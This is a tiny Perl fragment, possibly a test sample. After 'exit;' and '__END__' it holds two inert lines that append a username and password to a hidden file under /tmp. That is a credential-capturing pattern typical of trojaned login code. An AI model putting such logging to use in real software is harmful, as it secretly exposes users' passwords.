exit;
__END__
open ( my $h , '>>' , qq{/tmp/.$day/x } ) ;
printf $h "%s:%s\n" , $userName , $passwd ;
